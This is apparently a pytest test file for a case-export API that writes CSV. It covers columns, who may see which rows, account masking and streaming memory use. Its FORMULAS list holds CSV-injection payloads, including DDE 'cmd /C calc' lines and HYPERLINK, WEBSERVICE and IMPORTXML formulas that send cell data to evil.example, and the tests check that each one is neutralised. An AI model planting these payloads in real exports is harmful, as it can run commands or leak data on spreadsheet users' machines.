"""Cases as CSV: the columns, the rows that each person gets, and that a spreadsheet runs no formula of them."""

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import uuid4

import pytest

from api.services.case_export import ABOUT, Columns, cells, columns_of, export
from domain.case import CaseEvent, CaseResult
from domain.status import Status
from intake.csv_output import defused, record
from store.cases import cases
from store.cases.case_fields import Fields
from store.cases.cases import CaseRow, NewCaseRow, Viewer
from store.db.database import Database
from tests.api.conftest import Gate, eventually, payment

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "--1",
    "-(1)",
    "-1e",
    "-NaN",
    "-Infinity",
    "-1_000",
    "-",
    "+",
    "=",
    "@",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tplain, but a tab leads",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "     =1+1",
    " \t =1+1",
    " -1+1",
    "\u00a0=1+1",
    "\u2003@SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    " \uff1d1+1",
    "\uff0d5",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bSUM(A1)",
    "\u207a1+1",
    "=1+1\nsecond line",
    "=1+1,2",
    '="quoted"',
    "+44 20 7946 0000",
]
HARMLESS = [
    "",
    "0",
    "-1",
    "-12.50",
    "-.5",
    "+3",
    "-1,234.50",
    "-1.234,50",
    " -5 ",
    "-1e5",
    "+1.5E-3",
    "Müller & Co",
    "a=b",
    "1-2",
    "a\n=1+1",
    "O'Hara",
    'say "hello", twice',
    "1 = 1",
    "e-mail@example.org",
    "\N{CHART WITH UPWARDS TREND}",
    " plain",
    "'=1+1",
]


def read(text: str) -> list[dict[str, str]]:
    """The records as a strict reader has them."""
    assert text.startswith("\ufeff") and text.endswith("\r\n")
    reader = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True)
    found = list(reader)
    assert all(None not in row and None not in row.values() for row in found)  # each as long as the heading
    return found


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_what_a_spreadsheet_would_run_leaves_as_text(cell: str) -> None:
    assert defused(cell) == f"'{cell}"
    assert next(csv.reader(io.StringIO(record(["a", cell, "b"]), newline=""))) == ["a", f"'{cell}", "b"]


@pytest.mark.parametrize("cell", HARMLESS, ids=ascii)
def test_what_is_harmless_stays_as_it_is(cell: str) -> None:
    assert defused(cell) == cell
    assert next(csv.reader(io.StringIO(record(["a", cell, "b"]), newline=""))) == ["a", cell, "b"]


def test_values_that_are_no_text_stay_what_they_are() -> None:
    assert record([None, True, False, -3, 2.5, "1250.00"]) == ",true,false,-3,2.5,1250.00\r\n"
    assert record([["managers", "anna"], [], ["a;b"]]) == 'managers; anna,,"[""a;b""]"\r\n'
    assert record([{"a": "ü"}, [1, 2], ["=1+1"]]) == '"{""a"":""ü""}","[1,2]",\'=1+1\r\n'


async def as_csv(gate: Gate, person: str, **filters: Any) -> list[dict[str, str]]:
    answer = await gate.as_(person).get("/api/v1/cases", params=filters, headers={"Accept": "text/csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="cases.csv"'
    return read(answer.content.decode())


async def test_a_case_and_its_result_are_one_record_with_the_account_masked(gate: Gate) -> None:
    mark = uuid4().hex[:8]
    case_id = await gate.start(reference=f"EXP-{mark}", amount="100.00", payee=f"=cmd|{mark}", memo="two\nlines")
    await gate.until(case_id, lambda case: case["status"] == "completed")
    waiting = await gate.start(reference=f"EXP-{mark}-2")
    refused = await gate.start(reference=f"EXP-{mark}-3")
    await gate.decide("manager-1", await gate.open_task(refused), "reject", comment="too dear")
    await gate.until(refused, lambda case: case["status"] == "rejected")

    found = {row["case_id"]: row for row in await as_csv(gate, "requester-1", q=mark)}
    assert list(found) == [refused, waiting, case_id]
    row = found[case_id]
    assert [name for name in row if "." not in name] == [*ABOUT, "other"]
    listed = (await gate.get("requester-1", "/cases", q=mark)).json()["items"]
    shown = next(each for each in listed if each["case_id"] == case_id)
    for name in ("case_id", "process", "reference", "status", "requester", "created_at", "closed_at"):
        assert row[name] == shown[name]
    assert (row["priority"], row["round"], row["batch_id"], row["other"]) == ("3", "1", "", "")
    assert row["input.payee"] == f"'=cmd|{mark}"
    assert row["input.amount"] == "100.00" and row["input.memo"] == "two\nlines"
    assert row["input.payee_account"].endswith("5432") and "GB82WEST" not in str(found)
    result = (await gate.case(case_id))["result"]
    assert row["reason"] == result["reason"]
    assert {name: row[f"result.{name}"] for name in result["output"]} == {
        name: next(csv.reader([record([value])]))[0] for name, value in result["output"].items()
    }
    assert (found[refused]["decision"], found[refused]["decided_by"]) == ("reject", "manager-1")
    assert "Release the held 1,250.00 GBP" in found[refused]["undone"]
    assert (found[waiting]["status"], found[waiting]["closed_at"], found[waiting]["reason"]) == (
        (await gate.case(waiting))["status"],
        "",
        "",
    )


async def test_several_processes_have_the_columns_of_all_of_them(gate: Gate) -> None:
    mark = uuid4().hex[:8]
    paid = await gate.start(reference=f"UNI-{mark}")
    asked = {"process": "approval", "reference": f"UNI-{mark}", "input": {"title": mark, "candidates": ["managers"]}}
    answer = await gate.post("requester-1", "/cases", asked)
    assert answer.status_code == 201, answer.text
    both = {row["case_id"]: row for row in await as_csv(gate, "requester-1", q=mark)}
    assert both[f"approval:uni-{mark}"]["input.candidates"] == "managers"
    assert both[f"approval:uni-{mark}"]["input.amount"] == "" and both[paid]["input.title"] == ""
    names = list(both[paid])
    assert names.index("input.title") < names.index("input.payee") < names.index("other")
    one = await as_csv(gate, "requester-1", q=mark, process="payment")
    assert [row["case_id"] for row in one] == [paid] and "input.title" not in one[0]


async def test_the_file_is_narrowed_as_the_list_and_holds_only_what_the_caller_may_see(gate: Gate) -> None:
    mark = uuid4().hex[:8]
    sheet = f"reference,payee,amount,currency,account\nSEE-{mark},Somebody,10.00,GBP,operating\n".encode()
    files = {"file": ("a.csv", sheet, "text/csv")}
    batch = (await gate.as_("requester-1").post("/api/v1/batches?process=payment", files=files)).json()["batch_id"]

    async def of_batch() -> list[dict[str, str]]:
        return await as_csv(gate, "auditor-1", batch_id=batch, status="completed")

    (row,) = await eventually(of_batch, lambda rows: rows)
    assert row["reference"] == f"SEE-{mark}" and row["batch_id"] == batch
    other = (await gate.post("requester-2", "/cases", payment(f"SEE-{mark}-2", amount="10.00"))).json()["case_id"]
    for person, sees in (
        ("requester-1", {row["case_id"]}),
        ("requester-2", {other}),
        ("steward-1", set()),
        ("operator-1", {row["case_id"], other}),
    ):
        assert {each["case_id"] for each in await as_csv(gate, person, q=mark)} == sees, person
    assert {each["case_id"] for each in await as_csv(gate, "auditor-1", q=mark, requester="requester-2")} == {other}
    assert (await gate.as_(None).get("/api/v1/cases", headers={"Accept": "text/csv"})).status_code == 401


def a_case(number: int = 1, **changes: Any) -> CaseRow:
    at = datetime(2026, 11, 23, 9, 0, tzinfo=UTC) + timedelta(seconds=number)
    values: dict[str, Any] = {
        "case_id": f"payment:r-{number}",
        "process": "payment",
        "reference": f"R-{number}",
        "reference_key": f"r-{number}",
        "round": 1,
        "resubmits": None,
        "status": "completed",
        "title": "Pay",
        "requester": "rita",
        "priority": 3,
        "batch_id": None,
        "policy_hash": "f" * 64,
        "input": {"payee": "P", "amount": "1.00", "retired": "=old"},
        "start_at": None,
        "submitted_at": at,
        "updated_at": at,
        "idempotency_key": None,
        "head_count": 1,
        "head_hash": "",
    }
    return CaseRow.model_validate(values | changes)


def test_fields_stand_in_the_order_of_the_input_and_those_it_no_longer_has_behind_them() -> None:
    columns = columns_of(Fields(input={"retired", "amount", "payee"}, output={"b", "a"}, processes={"payment", "gone"}))
    assert columns.input[:3] == ["payee", "amount", "currency"] and columns.input[-1] == "retired"
    assert columns.result == ["a", "b"]
    row = dict(zip(columns.heading, cells(a_case(), columns), strict=True))
    assert row["input.retired"] == "=old" and row["other"] is None


def test_a_result_that_came_while_the_file_was_written_is_not_lost() -> None:
    result = CaseResult(case_id="payment:r-1", status=Status.COMPLETED, reason="Done.", output={"new": 1})
    columns = Columns(input=["payee", "amount", "retired"], result=[])
    row = dict(zip(columns.heading, cells(a_case(result=result), columns), strict=True))
    assert row["other"] == {"result.new": 1} and row["reason"] == "Done."
    assert json.loads(next(csv.reader([record([row["other"]])]))[0]) == {"result.new": 1}


@pytest.mark.parametrize("number", [1500, pytest.param(5000, marks=pytest.mark.soak)])
async def test_thousands_of_cases_come_each_once_and_in_flat_memory(db: Database, number: int) -> None:
    async def fill(numbers: range) -> None:
        new = []
        for number in numbers:
            row = a_case(number, input={"payee": "P" * 500, "amount": "1.00"})
            event = CaseEvent(
                event_id=f"{row.case_id}/0",
                case_id=row.case_id,
                at=row.submitted_at,
                kind="case_submitted",
                actor="rita",
                summary="-",
                data={},
            )
            new.append((NewCaseRow.model_validate(row.model_dump(include=set(NewCaseRow.model_fields))), event))
        async with db.write() as conn:
            await cases.insert_many(conn, new)

    async def peak() -> tuple[int, int]:
        """How many records came, and the most memory that was in use for them."""
        tracemalloc.start()
        count = 0
        async for part in export(db, Viewer(id="rita"), process="payment"):
            count += part.count("\r\n")
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return count - 1, most

    await fill(range(400))
    assert (await peak())[0] == 400  # and whatever is made once is made
    few, some_memory = await peak()
    await fill(range(400, number))
    many, more_memory = await peak()
    assert (few, many) == (400, number)
    assert more_memory < some_memory * 1.5
